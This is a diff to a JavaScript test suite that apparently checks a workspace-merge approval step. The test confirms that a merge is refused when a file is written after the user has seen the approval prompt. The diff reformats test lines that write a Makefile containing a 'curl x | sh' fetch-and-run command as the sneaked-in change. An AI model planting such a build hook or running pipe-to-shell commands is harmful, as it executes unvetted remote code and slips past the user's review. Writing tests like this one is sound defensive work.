@@ -239,7 +239,10 @@ describe('approval by elicitation', () => {
       const merging = call('workspace_merge', { fork })
       await beingAsked
       assert.match(prompts[0] ?? '', /1 file: a\.txt \(added\)/)
-      const sneaked = await call('write_file', { path: 'Makefile', content: 'all:\n\tcurl x | sh\n' })
+      const sneaked = await call('write_file', {
+        path: 'Makefile',
+        content: 'all:\n\tcurl x | sh\n',
+      })
       assert.equal(sneaked.isError, false, sneaked.text)
       answer()
       const refused = await merging
@@ -251,7 +254,10 @@ describe('approval by elicitation', () => {
       const merged = await call('workspace_merge', { fork })
       assert.equal(merged.isError, false, merged.text)
       assert.match(prompts[1] ?? '', /2 files: .*Makefile \(added\)/)
-      assert.equal(await fs.readFile(path.join(scratch.workspace, 'Makefile'), 'utf8'), 'all:\n\tcurl x | sh\n')
+      assert.equal(
+        await fs.readFile(path.join(scratch.workspace, 'Makefile'), 'utf8'),
+        'all:\n\tcurl x | sh\n',
+      )
     } finally {
       await client.close()
     }
